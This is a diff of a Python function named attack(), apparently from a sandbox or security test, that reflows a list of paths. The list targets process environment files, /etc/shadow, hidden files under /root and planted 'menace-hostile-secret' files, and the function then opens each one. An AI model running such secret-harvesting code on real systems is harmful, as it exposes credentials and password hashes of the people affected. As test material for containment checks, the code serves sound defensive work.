@@ -9,8 +9,9 @@ def attack():
     import glob
     import os
     found = []
-    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ"),
-                 "/tmp/menace-hostile-secret", os.path.expanduser("~/menace-hostile-secret"),
+    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ",
+                 *glob.glob("/proc/*/environ"), "/tmp/menace-hostile-secret",
+                 os.path.expanduser("~/menace-hostile-secret"),
                  "/root/menace-hostile-secret", *glob.glob("/root/.*"), "/etc/shadow"]:
         try:
             with open(path, "rb") as source:
